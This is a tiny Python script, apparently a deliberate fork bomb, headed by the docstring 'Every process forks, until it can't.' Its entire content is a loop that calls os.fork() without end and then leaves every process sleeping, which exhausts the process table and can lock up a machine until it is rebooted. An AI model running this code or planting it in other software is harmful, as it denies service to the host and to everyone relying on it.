"""Every process forks, until it can't."""

import os
import time

try:
    while True:
        os.fork()
except OSError:
    time.sleep(1000)
